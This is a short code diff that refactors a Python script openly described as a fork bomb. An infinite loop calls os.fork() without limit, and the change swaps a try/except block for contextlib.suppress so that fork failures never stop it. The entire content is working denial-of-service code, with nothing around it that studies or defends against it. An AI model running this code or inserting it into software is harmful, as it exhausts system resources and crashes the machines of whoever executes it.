@@ -1,9 +1,8 @@
 """A fork bomb that never stops trying."""
 
+import contextlib
 import os
 
 while True:
-    try:
+    with contextlib.suppress(OSError):
         os.fork()
-    except OSError:
-        pass
